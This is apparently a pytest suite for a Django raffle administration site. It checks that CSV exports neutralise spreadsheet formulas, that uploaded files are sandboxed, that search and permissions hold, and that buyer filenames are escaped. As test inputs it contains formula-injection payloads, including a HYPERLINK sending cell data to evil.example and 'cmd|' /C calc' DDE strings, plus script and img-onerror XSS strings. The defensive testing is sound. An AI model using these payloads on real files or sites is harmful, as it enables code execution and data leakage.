"""The back office against hostile input and curious staff: spreadsheet formulas, files served
as pages, odd searches, view-only users resetting buyers, counts that disagree, and the stopped
clocks nobody looked at."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from model_bakery import baker

from conversation.models import Conversation, ConversationState
from project.dashboard import build_dashboard
from raffles import services
from raffles.models import Order
from tests.admin.conftest import make_buyer, pending_order_with_proof
from tests.raffles.conftest import lapse

pytestmark = pytest.mark.django_db


# --- the sold-numbers export ------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_buyers_name_never_becomes_a_formula_in_the_export(client, superuser, raffle, name):
    buyer = make_buyer(1, name=name)
    services.confirm_payment(order=pending_order_with_proof(raffle, buyer, [5]))
    client.force_login(superuser)

    response = client.get(reverse("admin:raffles_raffle_sold_csv", args=[raffle.pk]))

    [header, row] = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    assert row[header.index("buyer_name")] == "'" + name
    assert row[header.index("number")] == "05"
    assert response["Content-Disposition"] == f'attachment; filename="raffle-{raffle.pk}-sold.csv"'


def test_ordinary_names_are_exported_as_they_are(client, superuser, raffle):
    services.confirm_payment(
        order=pending_order_with_proof(raffle, make_buyer(1, name="Ana-María"), [5])
    )
    client.force_login(superuser)

    response = client.get(reverse("admin:raffles_raffle_sold_csv", args=[raffle.pk]))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][4] == "Ana-María"


# --- files served to staff -------------------------------------------------------------------
def test_a_proof_file_is_sandboxed_and_named_safely(client, superuser, proof):
    client.force_login(superuser)

    response = client.get(reverse("admin:raffles_paymentproof_file", args=[proof.pk]))

    assert response.status_code == 200
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == f'inline; filename="proof-{proof.pk}.png"'
    assert response["Content-Type"] == "image/png"


def test_a_buyers_downloaded_file_is_sandboxed_too(client, superuser, private_media):
    from django.core.files.base import ContentFile

    from whatsapp.models import InboundMessage

    message = baker.make(
        InboundMessage,
        contact=make_buyer(1),
        msg_type="document",
        media_mime_type="text/html",  # whatever the buyer claimed
        media_filename='evil".html',
    )
    message.media_file.save("x.html", ContentFile(b"<script>alert(1)</script>"))
    client.force_login(superuser)

    response = client.get(reverse("admin:whatsapp_inboundmessage_file", args=[message.pk]))

    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert 'evil"' not in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("inline; filename=")


# --- searching orders ------------------------------------------------------------------------
@pytest.mark.parametrize("term", ["²", "٣", "12²", "9" * 40, "-1", "0x10"])
def test_searching_orders_for_anything_is_never_a_server_error(client, superuser, raffle, term):
    pending_order_with_proof(raffle, make_buyer(1), [2])
    client.force_login(superuser)

    response = client.get(reverse("admin:raffles_order_changelist"), {"q": term})

    assert response.status_code == 200


def test_searching_orders_by_a_ticket_number_still_finds_them(client, superuser, raffle):
    order = pending_order_with_proof(raffle, make_buyer(1), [42])
    pending_order_with_proof(raffle, make_buyer(2), [43])
    client.force_login(superuser)

    response = client.get(reverse("admin:raffles_order_changelist"), {"q": "42"})

    assert [o.pk for o in response.context["cl"].result_list] == [order.pk]


# --- resetting buyers' conversations ---------------------------------------------------------
def _stuck() -> Conversation:
    contact = make_buyer(9)
    return Conversation.objects.create(contact=contact, state=ConversationState.ASK_QTY)


def test_a_view_only_cashier_cannot_reset_a_conversation(client, cashier):
    cashier.user_permissions.add(Permission.objects.get(codename="view_conversation"))
    conversation = _stuck()
    client.force_login(cashier)

    client.post(
        reverse("admin:conversation_conversation_changelist"),
        {"action": "reset_to_menu", "_selected_action": [conversation.pk]},
    )
    client.post(
        reverse("admin:whatsapp_contact_changelist"),
        {"action": "reset_contacts_conversation", "_selected_action": [conversation.contact_id]},
    )
    listed = client.get(reverse("admin:whatsapp_contact_changelist"))

    conversation.refresh_from_db()
    assert conversation.state == ConversationState.ASK_QTY
    assert "reset_contacts_conversation" not in listed.content.decode()


def test_staff_who_may_change_conversations_can_reset_them(client, cashier):
    cashier.user_permissions.add(
        Permission.objects.get(codename="view_conversation"),
        Permission.objects.get(codename="change_conversation"),
    )
    conversation = _stuck()
    client.force_login(cashier)

    client.post(
        reverse("admin:whatsapp_contact_changelist"),
        {"action": "reset_contacts_conversation", "_selected_action": [conversation.contact_id]},
    )

    conversation.refresh_from_db()
    assert conversation.state == ConversationState.MENU


# --- the raffle list's counts ----------------------------------------------------------------
def test_the_raffle_list_counts_a_lapsed_hold_as_available_like_availability(
    client, superuser, raffle
):
    lapse(services.reserve_specific(raffle=raffle, numbers=[1, 2], contact=make_buyer(1)))
    services.reserve_specific(raffle=raffle, numbers=[3], contact=make_buyer(2))
    client.force_login(superuser)

    changelist = client.get(reverse("admin:raffles_raffle_changelist")).context["cl"]

    [shown] = changelist.result_list
    admin_obj = changelist.model_admin
    report = services.availability(raffle=raffle)
    assert (admin_obj.reserved(shown), admin_obj.available(shown)) == (1, 99)
    assert admin_obj.reserved(shown) == report.counts["RESERVED"]
    assert admin_obj.available(shown) == report.available


# --- stopped clocks on the landing page ------------------------------------------------------
def test_orders_whose_clock_stopped_long_ago_are_listed_for_the_operator(
    client, superuser, raffle, settings
):
    settings.REVIEW_WAITING_ALERT_MINUTES = 120
    old = pending_order_with_proof(raffle, make_buyer(1, "Old"), [1])
    recent = pending_order_with_proof(raffle, make_buyer(2, "Recent"), [2])
    Order.objects.filter(pk=old.pk).update(clock_stopped_at=timezone.now() - timedelta(hours=3))
    client.force_login(superuser)

    board = build_dashboard()
    page = client.get(reverse("admin:index")).content.decode()

    assert [o.pk for o in board.stalled_reviews] == [old.pk]
    assert board.stalled_reviews_count == 1
    assert recent.is_under_review
    assert "Numbers held without a deadline for over 2" in page
    assert reverse("admin:raffles_order_change", args=[old.pk]) in page


def test_the_buyers_filename_is_shown_as_text_on_the_order_page(client, superuser, raffle):
    from django.core.files.base import ContentFile

    from tests.admin.conftest import PNG_BYTES

    order = services.submit_order(
        order=services.reserve_specific(raffle=raffle, numbers=[3], contact=make_buyer(3))
    )
    services.attach_payment_proof(
        order=order,
        media_id="m1",
        mime_type="image/png",
        file=ContentFile(PNG_BYTES, name="<img src=x onerror=alert(1)>.png"),
    )
    client.force_login(superuser)

    page = client.get(reverse("admin:raffles_order_change", args=[order.pk])).content.decode()

    assert "&lt;img src=x onerror=alert(1)&gt;.png" in page
    assert "<img src=x onerror" not in page


def test_the_export_opens_in_excel_with_accents_and_local_columns(client, superuser, raffle):
    from django.utils import translation

    services.confirm_payment(
        order=pending_order_with_proof(raffle, make_buyer(1, name="María"), [5])
    )
    client.force_login(superuser)

    with translation.override("es"):
        response = client.get(reverse("admin:raffles_raffle_sold_csv", args=[raffle.pk]))
        body = b"".join(response.streaming_content)

    # UTF-8 with a byte order mark, and ";" columns as Excel expects where "," is the decimal mark.
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][4] == "María"
    assert rows[1][-1].endswith(raffle.currency) and "," in rows[1][-1]
